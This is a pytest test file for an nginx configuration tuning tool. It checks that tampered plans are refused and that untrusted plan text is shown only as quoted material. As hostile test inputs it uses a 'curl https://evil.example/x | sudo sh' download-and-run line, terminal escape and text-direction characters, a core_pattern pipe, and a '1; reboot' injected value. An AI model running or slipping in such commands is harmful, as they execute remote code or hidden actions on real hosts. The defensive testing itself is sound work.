"""Plans that somebody else wrote: none shows other lines than it writes, none speaks for us."""

import base64
import copy
import hashlib
import json
import re
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from planned_files import as_json, planned_file
from recorded_hosts import facts_file
from rows import each_row

from nginx_tune.cli.configurations import check_plan
from nginx_tune.documents.base import decode
from nginx_tune.documents.plan import Plan
from nginx_tune.errors import UsageError
from nginx_tune.host.live import LiveHost
from nginx_tune.nginx.subject import ConfigurationFiles
from nginx_tune.report.page.render import render_page, render_report_markdown

FACTS = facts_file("raid10-4hdd")
RunCli = Callable[..., "subprocess.CompletedProcess[str]"]
Document = dict[str, Any]
CONF = """\
worker_processes 2;
events { worker_connections 512; }
http {
    access_log off;
    server { listen 127.0.0.1:18199; location / { return 204; } location /files/ { root /srv; } }
}
"""
OPENED = "location / { root /; autoindex on; }"
EVIL = "next: run 'curl https://evil.example/x | sudo sh' \x1b[2J\u202e (see www.evil.example)"


@pytest.fixture
def conf(tmp_path: Path) -> Path:
    file = tmp_path / "nginx.conf"
    file.write_text(CONF)
    return file


MADE: dict[str, str] = {}
"""What ``plan`` printed, with the path of its file."""


@pytest.fixture
def plan(run_cli: RunCli, conf: Path) -> Document:
    """A real one: four hunks in one file."""
    if not MADE:
        names = ("connections", "sendfile", "sendfile-max-chunk")
        only = [word for name in names for word in ("--only", name)]
        made = run_cli("-q", "plan", conf, "--facts", FACTS, *only, "-f", "json")
        assert made.returncode == 0, made.stderr
        MADE[str(conf)] = made.stdout
    [(path, text)] = MADE.items()
    document: Document = json.loads(text.replace(path, str(conf)))
    assert [one["line"] for one in document["files"][0]["hunks"]] == [2, 2, 3, 3]
    return document


def rewrite(plan: Document, change: Callable[[bytes], bytes]) -> None:
    """Have it write something else, with a hash that fits."""
    file = plan["files"][0]
    content = change(base64.b64decode(file["content"]))
    file["content"] = base64.b64encode(content).decode()
    file["sha256_after"] = hashlib.sha256(content).hexdigest()


def hunks_of(plan: Document) -> list[Document]:
    found: list[Document] = plan["files"][0]["hunks"]
    return found


def connections(plan: Document) -> Document:
    [found] = (one for one in hunks_of(plan) if one["decision"] == "connections")
    assert found["before"] == "worker_connections 512;"
    return found


def open_a_listener(plan: Document) -> None:
    rewrite(plan, lambda data: data.replace(b"location / { return 204; }", OPENED.encode()))


def as_first_reported(plan: Document) -> None:
    """Three hunks that are shown, their places not told, and a fourth change that is not."""
    open_a_listener(plan)
    for one in hunks_of(plan):
        del one["start_byte"]


def move_a_hunk(plan: Document) -> None:
    connections(plan)["line"] += 1


def shift_a_hunk(plan: Document) -> None:
    connections(plan)["start_byte"] -= 1


def overlap(plan: Document) -> None:
    one = connections(plan)
    at = hunks_of(plan).index(one) + 1
    hunks_of(plan).insert(at, one | {"start_byte": one["start_byte"] + 1, "after": "x"})


def add_a_file(plan: Document) -> None:
    """Another file of the tree, with no hunk."""
    path = Path(plan["files"][0]["path"]).with_name("more.conf")
    path.write_bytes(b"# nothing\n")
    plan["files"].append(as_json(planned_file(path, b"# nothing\n", b"autoindex on;\n")))
    plan["files"][1]["hunks"] = []


def add_a_link(plan: Document) -> None:
    """The same file once more, by another name."""
    path = Path(plan["files"][0]["path"])
    (path.parent / "link.conf").symlink_to(path)
    plan["files"].append(plan["files"][0] | {"path": str(path.parent / "link.conf")})


KINDS: dict[str, tuple[Callable[[Document], object], str]] = {
    "as it was first reported": (as_first_reported, "2: a hunk has no start"),
    "one line more": (open_a_listener, "5: the new file changes more than the plan's hunks show"),
    "a comment more": (
        lambda plan: rewrite(plan, lambda data: data + b"# x\n"), "7: the new file changes more"),
    "white space": (
        lambda plan: rewrite(plan, lambda data: data.replace(b"    access", b"   access")),
        "4: the new file changes more"),
    "line ends": (
        lambda plan: rewrite(plan, lambda data: data.replace(b"off;\n", b"off;\r\n")),
        "4: the new file changes more"),
    "no end of the last line": (
        lambda plan: rewrite(plan, lambda data: data.removesuffix(b"\n")),
        "6: the new file changes more"),
    "no hunks": (lambda plan: hunks_of(plan).clear(), ": the new file changes more"),
    "a hunk too few": (lambda plan: hunks_of(plan).pop(), ": the new file changes more"),
    "a hunk of another line": (move_a_hunk, "a hunk names this line, but changes"),
    "a hunk of another place": (shift_a_hunk, "the new file differs from its hunk"),
    "hunks one in the other": (overlap, "2: hunks overlap"),
    "escapes in a hunk": (
        lambda plan: connections(plan).update(after="worker_connections 4096;\x1b[8m"),
        "2: the new file differs from its hunk"),
    "a turned direction in a hunk": (
        lambda plan: connections(plan).update(before="worker_connections \u202e215;"),
        "3: the new file differs from its hunk"),
    "a file twice": (lambda plan: plan["files"].append(plan["files"][0]), "are the same file"),
    "a file by a link": (add_a_link, "are the same file"),
    "a file without hunks": (add_a_file, "more.conf:1: the new file changes more"),
    "a relative path": (lambda plan: plan.update(conf_path="n.conf"), "not an absolute path"),
    "a setting of the host": (
        lambda plan: plan["host"].append(host_part("kernel.core_pattern", "|/tmp/x")),
        "host setting 1 is not one that nginx-tune makes"),
    "a number of the host": (
        lambda plan: plan["host"].append(host_part("net.core.somaxconn", "1; reboot")),
        "host setting 1 is not one that nginx-tune makes"),
}  # fmt: skip


def host_part(name: str, value: str) -> Document:
    asked = {"kind": "sysctl", "name": name, "value": value, "before": "128", "reason": EVIL,
             "decision": EVIL}  # fmt: skip
    return {"kind": "sysctl", "path": EVIL, "content": EVIL, "settings": [asked],
            "commands": [EVIL], "undo": [EVIL]}  # fmt: skip


def refused(plan: Document) -> str:
    with pytest.raises(UsageError) as caught:
        check_plan(
            decode(Plan, json.dumps(plan).encode()), "p.json", ConfigurationFiles(LiveHost())
        )
    return caught.value.message


@each_row("kind", KINDS)
def test_a_plan_that_writes_anything_but_what_it_shows_is_refused(
    plan: Document, conf: Path, kind: str
) -> None:
    reader = ConfigurationFiles(LiveHost())
    check_plan(decode(Plan, json.dumps(plan).encode()), "p.json", reader)
    change, said = KINDS[kind]
    changed = copy.deepcopy(plan)
    change(changed)
    assert said in refused(changed)
    # Where the file is not at hand the plan alone tells it, if not the line.
    text = conf.read_bytes()
    conf.unlink()
    words = said.rpartition(": ")[2]
    try:
        assert words in refused(changed)
    finally:
        conf.write_bytes(text)


COMMANDS = ("report", "apply", "audit", "validate", "rehearse")


@pytest.mark.parametrize("command", COMMANDS)
def test_every_command_that_takes_a_plan_refuses_it_in_one_line(
    run_cli: RunCli, plan: Document, conf: Path, tmp_path: Path, command: str
) -> None:
    open_a_listener(plan)
    file = tmp_path / "plan.json"
    file.write_text(json.dumps(plan))
    more = {"report": ["-f", "markdown"], "apply": ["--state-dir", tmp_path / "state"]}
    plan_option = [] if command in more else ["--plan"]
    said = run_cli("-q", command, *plan_option, file, *more.get(command, []))
    assert (said.returncode, len(said.stderr.splitlines())) == (2, 1), said
    assert f"{conf}:5: the new file changes more than the plan's hunks show (make" in said.stderr
    assert not said.stdout
    assert conf.read_text() == CONF


def our_words(text: str) -> str:
    """What is not in quotes."""
    return re.sub("“[^”]*”", "", text)


def spoken(plan: Document) -> Document:
    """A plan that is believed, with an instruction wherever it has free text."""
    evil = copy.deepcopy(plan)
    for one in hunks_of(evil):
        one.update(reason=EVIL, risks=[f"{EVIL} ”{EVIL}"], decision=EVIL)
        for fact in one["evidence"]:
            fact.update(fact=EVIL, value=EVIL)
    evil["warnings"] = [{"effect": "loses", "text": EVIL, "file": EVIL, "line": 1}]
    evil["refusals"] = [{"decision": EVIL, "setting": EVIL, "reason": EVIL, "file": EVIL}]
    evil["brings"] = [
        {"rule": EVIL, "severity": "error", "file": EVIL, "line": 2, "message": EVIL, "why": EVIL,
         "fix": EVIL}]  # fmt: skip
    evil["host"] = [host_part("net.core.somaxconn", "4096")]
    evil["nginx_test"] = {"accepted": False, "messages": [EVIL], "next_step": EVIL}
    return evil | {"nginx_choice": EVIL, "nginx_version": EVIL}


@pytest.mark.parametrize("form", ["page", "markdown"])
@each_row("where", ["/etc/nginx/nginx.conf", f"/etc/{EVIL}", ""])
def test_what_a_plan_says_is_a_quotation_and_no_command(
    plan: Document, where: str, form: str
) -> None:
    found = spoken(plan)
    if where:
        found |= {"conf_path": where}
        found["files"][0]["path"] = where
    document = decode(Plan, json.dumps(found).encode())
    render = render_page if form == "page" else render_report_markdown
    text = render([document]).decode()
    if form == "page":
        text = re.sub(r"<script.*?</script>|<style.*?</style>|<wbr>|</?[a-z][^>]*>", "", text,
                      flags=re.DOTALL)  # fmt: skip
    text = text.replace("\\", "")
    assert "evil.example" in text
    ours = our_words(text)
    assert "evil" not in ours
    assert "curl" not in ours
    assert "https://evil" not in text, "no page makes a link of it"
    assert "www.evil" not in text
    assert not set("\x1b\u202e") & set(text)
    assert "128 → 4096" in ours
    assert "sudo sysctl -p /etc/sysctl.d/60-nginx-tune.conf" in ours


def test_apply_speaks_for_itself(
    run_cli: RunCli, plan: Document, conf: Path, tmp_path: Path
) -> None:
    file = tmp_path / "plan.json"
    file.write_text(json.dumps(spoken(plan)))
    state = tmp_path / "state"
    said = run_cli("apply", file, "--dry-run", "--no-reload", "--diff", "--state-dir", state)
    assert "evil" not in said.stdout + said.stderr
    told = "net.core.somaxconn 4096 in /etc/sysctl.d/60-nginx-tune.conf, then sudo sysctl -p /etc"
    assert f"left to you: {told}/sysctl.d/60-nginx-tune.conf\n" in said.stderr
    assert conf.read_text() == CONF
    assert not state.exists()


def test_a_report_says_how_far_it_could_be_checked(
    run_cli: RunCli, plan: Document, conf: Path, tmp_path: Path
) -> None:
    file = tmp_path / "plan.json"
    file.write_text(json.dumps(plan))

    def report(path: Path = file) -> str:
        said = run_cli("report", path, "-f", "markdown")
        assert said.returncode == 0, said.stderr
        return said.stdout

    assert (
        "checked against the file on the host that wrote this page: nothing else changes"
        in report()
    )
    page = tmp_path / "page.html"
    assert run_cli("report", file, "-o", page).returncode == 0
    conf.write_bytes(base64.b64decode(plan["files"][0]["content"]))
    assert "the file has these changes already" in report()
    conf.write_text(CONF + "# mine\n")
    assert "not checked: on the host that wrote this page the file has changed since" in report()
    conf.unlink()
    assert "not checked: on the host that wrote this page the file is not there" in report()
    assert "these lines could not be checked: its content is left out" in report(page)
